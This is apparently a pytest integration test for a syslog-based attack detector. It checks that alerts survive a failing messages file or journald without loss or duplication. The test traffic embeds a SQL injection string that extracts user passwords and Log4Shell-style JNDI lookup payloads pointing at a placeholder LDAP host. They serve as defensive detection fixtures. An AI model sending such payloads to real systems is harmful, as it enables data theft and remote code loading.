"""A sink that fails for a while costs no line and raises no false or repeated alert.

The real chain (web-host and central rsyslogd over RELP/TLS, the real omprog program, a
private journald, a messages file) carries page views from harmless clients and one
``UNION SELECT`` line from each of 40 attackers, while one sink fails for 4 s: the messages
file turns into a directory (then back), its file system is full (then emptied), or journald
is stopped (then continued). Afterwards each sink holds exactly one alert per attacker and
none for a harmless client, in both of omprog's confirmation modes.
"""

from __future__ import annotations

import re
import socket
import time
from collections import Counter
from pathlib import Path

import pytest
from conftest import require_lab

from lwsyslog import lab

pytestmark = [pytest.mark.integration, pytest.mark.slow]

_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
_ATTACKERS = 40
_LINES = 200
_HUNG_ALERTS = 800
"""Far more datagrams than a stopped journald's socket queues (net.unix.max_dgram_qlen)."""
_ALERT = re.compile(r"^\S+ \S+ \S+ client=(?P<client>\S+) .*? line: (?P<line>.*)$")


def _traffic() -> list[str]:
    rows = []
    step = _LINES // _ATTACKERS
    for i in range(_LINES):
        if i % step == step // 2:
            a = i // step + 1
            rows.append(
                f'198.18.1.{a} - - [{{stamp}}] "GET /item.php?id=1%27+UNION+SELECT+name,pass'
                f'+FROM+users--+-&a={a} HTTP/1.1" 200 1432 "-" "{_UA}"'
            )
        else:
            rows.append(
                f'198.18.0.{i % 20 + 1} - - [{{stamp}}] "GET /blog/post-{i}.html HTTP/1.1" '
                f'200 5120 "https://www.example.com/" "{_UA}"'
            )
    return rows


def _run(mode: str, kind: str, work: Path) -> tuple[Counter[tuple[str, str]], ...]:
    """(client, line) counts of the alerts in the messages file and in journald."""
    with lab.JournalNamespace(work / "journal") as journal:
        fault = lab.SinkFault(kind, journal, work)
        program = lab.omprog_command(
            config=lab.write_lab_config(work / "lwsyslog.toml", "[alerts]\nstorm_max_alerts = 0\n"),
            state_dir=work / "state",
            messages_file=fault.path,
        )
        chain = lab.LocalChain(
            work / "chain", program, journal, apache=False, transactions=mode == "transactions"
        )
        with chain, socket.create_connection(("127.0.0.1", chain.input_port)) as sock:
            fault.pids = chain.omprog_pids
            sock.sendall(lab.syslog_line(
                f'192.0.2.200 - - [{time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())}] '
                '"GET /warm-up HTTP/1.1" 200 5 "-" "${jndi:ldap://198.51.100.9/a}"'
            ))  # fmt: skip
            lab.wait_for(lambda: b"/warm-up" in fault.read(), 60, "the warm-up alert")
            lab.send_through_fault(
                lambda body: sock.sendall(lab.syslog_line(body)),
                _traffic(),
                fault,
                send_secs=8,
                fault_start=2,
                fault_secs=4,
            )

            def counts() -> tuple[int, int]:
                journal_alerts = journal.entries("SYSLOG_IDENTIFIER=lwsyslog")
                return fault.read().count(b"\n"), len(journal_alerts)

            lab.settle(counts, (_ATTACKERS + 1, _ATTACKERS + 1), most=90)
            text = fault.read().decode("utf-8", "replace")
            entries = journal.entries("SYSLOG_IDENTIFIER=lwsyslog")
    in_file: Counter[tuple[str, str]] = Counter()
    for row in text.splitlines():
        match = _ALERT.match(row)
        assert match, f"a torn or unreadable line in the messages file: {row!r}"
        in_file[(match["client"], match["line"])] += 1
    in_journal: Counter[tuple[str, str]] = Counter(
        (str(e.get("LWSYSLOG_CLIENT_IP")), str(e.get("LWSYSLOG_SAMPLE"))) for e in entries
    )
    return in_file, in_journal


@pytest.mark.parametrize(
    ("mode", "kind"),
    [("transactions", "full"), ("lines", "dir"), ("transactions", "journald")],
)
def test_a_failing_sink_loses_nothing_and_invents_nothing(
    mode: str, kind: str, tmp_path: Path
) -> None:
    require_lab()
    attackers = {f"198.18.1.{a}" for a in range(1, _ATTACKERS + 1)} | {"192.0.2.200"}
    for sink, alerts in zip(("messages file", "journald"), _run(mode, kind, tmp_path), strict=True):
        clients = Counter(client for client, _ in alerts)
        assert set(clients) == attackers, f"{sink}: alerts for {set(clients) ^ attackers}"
        repeated = {key: n for key, n in alerts.items() if n > 1}
        assert not repeated, f"{sink}: the same alert written again: {repeated}"
        assert all(n == 1 for n in clients.values()), f"{sink}: {clients.most_common(3)}"


def test_a_hung_journald_does_not_hold_up_the_messages_file(tmp_path: Path) -> None:
    require_lab()
    with lab.JournalNamespace(tmp_path / "journal") as journal:
        fault = lab.SinkFault("journald", journal, tmp_path)
        program = lab.omprog_command(
            config=lab.write_lab_config(
                tmp_path / "lwsyslog.toml", "[alerts]\nstorm_max_alerts = 0\n"
            ),
            state_dir=tmp_path / "state",
            messages_file=fault.path,
        )
        with lab.LocalChain(tmp_path / "chain", program, journal, apache=False) as chain:
            stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
            fault.on()
            try:
                with socket.create_connection(("127.0.0.1", chain.input_port)) as sock:
                    for n in range(_HUNG_ALERTS):
                        client = f"198.18.{2 + n // 250}.{n % 250 + 1}"
                        sock.sendall(lab.syslog_line(
                            f'{client} - - [{stamp}] "GET /?q=${{jndi:ldap://198.51.100.9/{n}}} '
                            f'HTTP/1.1" 200 5 "-" "{_UA}"'
                        ))  # fmt: skip
                    lab.wait_for(
                        lambda: fault.read().count(b"\n") >= _HUNG_ALERTS,
                        30,
                        "alerts while journald hangs",
                    )
            finally:
                fault.off()
            assert chain.omprog_pids(), "the program died while journald hung"
            lab.wait_for(
                lambda: len(journal.entries("SYSLOG_IDENTIFIER=lwsyslog")) >= _HUNG_ALERTS,
                30,
                "journald catching up once it runs again",
            )
            entries = journal.entries("SYSLOG_IDENTIFIER=lwsyslog")
    assert len({str(e.get("LWSYSLOG_CLIENT_IP")) for e in entries}) == len(entries)
